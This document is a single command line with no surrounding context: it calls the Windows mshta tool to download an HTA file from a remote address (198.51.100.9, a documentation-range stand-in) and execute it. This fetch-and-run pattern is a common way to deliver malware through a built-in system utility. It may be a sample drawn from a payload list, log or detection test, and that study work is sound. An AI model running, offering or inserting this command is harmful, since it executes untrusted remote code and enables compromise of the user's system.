mshta http://198.51.100.9/page.hta
